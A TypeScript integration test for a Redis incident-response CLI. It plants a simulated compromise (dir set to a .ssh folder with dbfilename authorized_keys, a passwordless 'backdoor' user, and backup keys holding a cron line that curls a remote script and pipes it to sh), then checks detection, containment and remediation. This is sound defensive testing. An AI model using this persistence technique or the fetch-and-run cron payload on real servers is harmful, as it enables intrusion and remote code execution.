// The incident flow end to end, headless, on a real server with the planted compromise
// (issue 16): `dir` under a .ssh directory with dbfilename authorized_keys, backup1..4 holding a
// cron line, a `backdoor` user (nopass, +@all), a client of a disabled user still connected,
// CONFIG SET and FLUSHALL in commandstats. start finds each; contain runs each suggestion and
// the server is checked after each; remediate rotates a password (shown once) and persists;
// monitor and keyspace add evidence with their own manifests; the report lists it all; no
// password used here (nor the generated one) is in the report, the incident's files or the journal.
import { readFileSync } from 'node:fs';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRedis } from '../support/redis-server.js';
import type { RedisHandle } from '../support/redis-server.js';
import { tempXdg } from '../helpers/tui.js';
import type { XdgDirs } from '../helpers/tui.js';
import { cli, journalOf } from './acl-cli.js';
import { filesUnder } from '../helpers/files-under.js';

const ADMIN_PW = 'flow-admin-password-00000000000000001';
const U1_PW = 'flow-u1-password-0000000000000000002';
const PASSWORDS = [ADMIN_PW, U1_PW];
const CRON = '\n\n*/1 * * * * root curl -fsSL http://x/s.sh | sh\n\n';

let server: RedisHandle;
let admin: Redis;
let u1: Redis;
let home: string;
let xdg: XdgDirs;

beforeAll(async () => {
  xdg = tempXdg();
  home = await mkdtemp(join(tmpdir(), 'incident-flow-'));
  await mkdir(join(home, '.ssh'));
  await mkdir(join(home, 'data'));
  server = await startRedis({
    aclUsers: ['user default off', `user admin on >${ADMIN_PW} ~* &* +@all`, `user u1 on >${U1_PW} ~* +@all`],
    extraConfig: [`dir ${join(home, '.ssh')}`, 'dbfilename authorized_keys', 'enable-protected-configs yes'],
  });
  admin = new Redis({ host: server.host, port: server.port, username: 'admin', password: ADMIN_PW });
  await admin.config('GET', 'maxmemory');
  await admin.config('SET', 'maxmemory-policy', 'noeviction');
  await admin.flushall();
  for (let i = 1; i <= 4; i++) await admin.set(`backup${i}`, CRON);
  await admin.acl('SETUSER', 'backdoor', 'on', 'nopass', '+@all', '~*');
  // Killed by the containment and disabled: it must not reconnect (each try is a WRONGPASS).
  u1 = new Redis({
    host: server.host,
    port: server.port,
    username: 'u1',
    password: U1_PW,
    retryStrategy: () => null,
  });
  u1.on('error', () => {});
  await u1.ping();
  await admin.acl('SETUSER', 'u1', 'off');
});
afterAll(async () => {
  admin?.disconnect();
  u1?.disconnect();
  await server?.stop();
  await rm(home, { recursive: true, force: true });
  xdg.cleanup();
});

const run = (args: string[]) =>
  cli(['incident', ...args, '-p', String(server.port), '--user', 'admin'], {
    XDG_CONFIG_HOME: xdg.config,
    XDG_STATE_HOME: xdg.state,
    REDISCLI_AUTH: ADMIN_PW,
  });
const offline = (args: string[]) =>
  cli(['incident', ...args], { XDG_CONFIG_HOME: xdg.config, XDG_STATE_HOME: xdg.state });

/** `KEY  STATUS  describe` lines of `incident contain ID`, keyed by what they describe. */
async function listed(id: string): Promise<{ key: string; status: string; line: string }[]> {
  const r = await run(['contain', id]);
  expect(r.code, r.stderr).toBe(0);
  return r.stdout
    .split('\n')
    .filter((l) => /^[FS]\S+ {2}/.test(l))
    .map((line) => {
      const [key, status] = line.split('  ');
      return { key: key!, status: status!, line };
    });
}

describe('the incident flow on a planted compromise', () => {
  let id = '';
  let dir = '';
  let generated = '';
  const keyOf = async (re: RegExp) => (await listed(id)).find((s) => re.test(s.line))!.key;

  it('start finds every planted sign', async () => {
    const r = await run(['start', '--title', 'planted', '--json']);
    expect(r.code, r.stderr).toBe(1);
    const doc = JSON.parse(r.stdout) as {
      incident: string;
      dir: string;
      findings: { kind: string; title: string }[];
    };
    ({ incident: id, dir } = doc);
    const has = (kind: string, re: RegExp) => doc.findings.some((f) => f.kind === kind && re.test(f.title));
    expect(has('persistence.path', /\.ssh/)).toBe(true);
    expect(has('keys.payload', /^4 key.*backup/)).toBe(true);
    expect(has('users.nopass', /backdoor/)).toBe(true);
    expect(has('clients.disabled-user', /disabled/)).toBe(true);
    expect(has('commandstats', /^CONFIG SET/)).toBe(true);
    expect(has('commandstats', /^FLUSHALL/)).toBe(true);
  });

  it('contain lists the suggestions; a plan without --yes sends nothing (exit 1)', async () => {
    const all = await listed(id);
    expect(all.map((s) => s.status)).toEqual(all.map(() => 'TODO'));
    expect(all.some((s) => /Block user backdoor/.test(s.line))).toBe(true);
    const block = await keyOf(/Block user backdoor/);
    const plan = await run(['contain', id, block]);
    expect(plan.code).toBe(1);
    expect(plan.stdout).toContain(`would run ${block}: Block user backdoor`);
    expect(plan.stdout).toContain('Nothing was sent');
    expect(((await admin.acl('GETUSER', 'backdoor')) as unknown[])[1]).toContain('on');
    const usage = await run(['contain', id, 'F99.1', '--yes']);
    expect(usage.code).toBe(2);
  });

  it("restore-persistence needs the real dir and file; the console's own user needs --force", async () => {
    const key = await keyOf(/Put dir and dbfilename back|CONFIG SET dir/);
    const r = await run(['contain', id, key, '--yes']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/placeholders: give this server's own with --dir DIR --dbfilename FILE/);
    expect(await admin.config('GET', 'dir')).toEqual(['dir', join(home, '.ssh')]);
    const self = await keyOf(/Block user admin/);
    const refused = await run(['contain', id, self, '--yes']);
    expect(refused.code).toBe(1);
    expect(refused.stdout).toMatch(/the user this console is connected as.*--force/);
    expect(((await admin.acl('GETUSER', 'admin')) as unknown[])[1]).toContain('on');
  });

  it('contains each suggestion; the server shows each change', async () => {
    const block = await keyOf(/Block user backdoor/);
    const r1 = await run(['contain', id, block, '--yes']);
    expect(r1.code, r1.stdout + r1.stderr).toBe(0);
    expect(r1.stdout).toMatch(/Done: Block user backdoor\n.*re-read, the change is there/);
    const flags = (await admin.acl('GETUSER', 'backdoor')) as unknown[];
    expect(flags[1]).toContain('off');

    const kill = await keyOf(/Kill client/);
    const r2 = await run(['contain', id, kill, '--yes']);
    expect(r2.code, r2.stdout).toBe(0);
    // CLIENT KILL has no re-read of its own: its OK is not said as a verified change.
    expect(r2.stdout).toMatch(/answered OK \(this operation has no re-read of its own\)/);
    expect(await admin.client('LIST')).not.toMatch(/user=u1 /);

    const persist = await keyOf(/Put dir and dbfilename back|CONFIG SET dir/);
    const data = join(home, 'data');
    const r3 = await run(['contain', id, persist, '--dir', data, '--dbfilename', 'dump.rdb', '--yes']);
    expect(r3.code, r3.stdout).toBe(0);
    expect(await admin.config('GET', 'dir')).toEqual(['dir', data]);
    expect(await admin.config('GET', 'dbfilename')).toEqual(['dbfilename', 'dump.rdb']);

    // Each is OK now, the one run with the real dir too; a re-run sends nothing again.
    const after = await listed(id);
    for (const k of [block, kill, persist]) expect(after.find((s) => s.key === k)?.status).toBe('OK');
    const sends = journalOf(xdg)
      .split('\n')
      .filter((l) => l.includes('"action":"acl.setuser"')).length;
    const again = await run(['contain', id, block, '--yes']);
    expect(again.code).toBe(0);
    expect(again.stdout).toContain(`not run: ${block} is done already (ok)`);
    const all = await run(['contain', id, '--all', '--yes']);
    expect(all.stdout).toContain(`not run: ${kill} is done already (ok)`);
    expect(
      journalOf(xdg)
        .split('\n')
        .filter((l) => l.includes('"action":"acl.setuser"')),
    ).toHaveLength(sends);
  });

  it('remediate says what to rotate, persist, firewall and TLS lines, and the failing audit checks', async () => {
    const r = await run(['remediate', id, '--known-network', '10.0.0.0/8']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`incident remediate ${id} --rotate backdoor --phase add --yes`);
    expect(r.stdout).toMatch(/PERSIST[^]*ACL SAVE/i);
    expect(r.stdout).toContain(`ufw allow from 10.0.0.0/8 to any port ${server.port} proto tcp`);
    expect(r.stdout).toContain(`tls-port ${server.port}`);
    expect(r.stdout).toMatch(/AUDIT: [1-9]\d* failing check/);
    const quick = await run(['remediate', id, '--no-audit']);
    expect(quick.stdout).not.toContain('AUDIT:');
  });

  it('rotation: phase add shows the new password once, phase drop removes the old; persist saves', async () => {
    expect((await run(['remediate', id, '--rotate', 'u1', '--phase', 'add'])).code).toBe(1);
    const add = await run(['remediate', id, '--rotate', 'u1', '--phase', 'add', '--yes']);
    expect(add.code, add.stdout + add.stderr).toBe(0);
    generated = /shown once, not saved anywhere\): (\S+)/.exec(add.stdout)?.[1] ?? '';
    expect(generated).toMatch(/^[0-9a-f]{32,}$/);
    const drop = await run(['remediate', id, '--rotate', 'u1', '--phase', 'drop', '--yes']);
    expect(drop.code, drop.stdout).toBe(0);
    const rules = ((await admin.acl('GETUSER', 'u1')) as unknown[])[3] as string[];
    expect(rules).toHaveLength(1);
    const persist = await run(['remediate', id, '--persist', '--yes']);
    expect(persist.code, persist.stdout).toBe(0);
    expect(readFileSync(join(server.dir, 'users.acl'), 'utf8')).toMatch(/user backdoor off/);
  });

  it('monitor (warning first, --yes) and keyspace add evidence with their own manifests', async () => {
    const no = await run(['monitor', id, '--seconds', '1']);
    expect(no.code).toBe(1);
    expect(no.stderr).toMatch(/^Warning: MONITOR costs the server/);
    const mon = await run(['monitor', id, '--seconds', '1', '--max-lines', '10', '--yes']);
    expect(mon.code, mon.stderr).toBe(0);
    expect(mon.stdout).toMatch(/evidence monitor: manifest-2\.json SHA-256 [0-9a-f]{64}/);
    await admin.set('late', '1');
    const ks = await run(['keyspace', id]);
    expect(ks.code, ks.stderr).toBe(0);
    expect(ks.stdout).toMatch(/keys before 4, now 5 \(\+1\)/);
    const ks2 = await run(['keyspace', id]);
    expect(ks2.stdout).toContain('manifest-4.json');
  });

  it('step done|skip; show and report list findings, actions with results and the later evidence', async () => {
    expect((await offline(['step', id, 'skip', 'investigate'])).code).toBe(2);
    expect((await offline(['step', id, 'skip', 'investigate', '--reason', 'seen enough'])).code).toBe(0);
    expect((await offline(['step', id, 'done', 'contain'])).code).toBe(0);
    expect((await offline(['step', id, 'done', 'contain'])).code).toBe(1);
    const show = await offline(['show', id]);
    expect(show.code, show.stdout).toBe(0);
    expect(show.stdout).toMatch(/\[-\] Investigate \(skipped: seen enough\)/);
    expect(show.stdout).toContain('later evidence (keyspace-after): manifest-4.json');
    const report = await offline(['report', id, '--markdown']);
    expect(report.code).toBe(0);
    expect(report.stdout).toMatch(/## Findings[^]*CRITICAL[^]*\.ssh/);
    expect(report.stdout).toMatch(/## Actions[^]*acl\.setuser .*backdoor.*: ok/);
    expect(report.stdout).toMatch(/## Actions[^]*client\.kill .*: ok/);
    expect(report.stdout).toMatch(/## Actions[^]*config\.restore-persistence .*: ok/);
    expect(report.stdout).toMatch(
      /## Evidence manifest[^]*later evidence \(monitor\): manifest-2\.json[^]*## Findings/,
    );
    const text = report.stdout + (await offline(['report', id, '--json'])).stdout;
    for (const pw of [...PASSWORDS, generated]) {
      expect(text).not.toContain(pw);
      expect(journalOf(xdg)).not.toContain(pw);
      for (const f of filesUnder(dir)) expect(readFileSync(f, 'utf8'), f).not.toContain(pw);
    }
  });

  it('a closed incident refuses every step (exit 1)', async () => {
    expect((await offline(['close', id, '--outcome', 'contained'])).code).toBe(0);
    const r = await run(['contain', id, '--all', '--yes']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('is closed');
    expect((await offline(['step', id, 'done', 'remediate'])).code).toBe(1);
  });
});
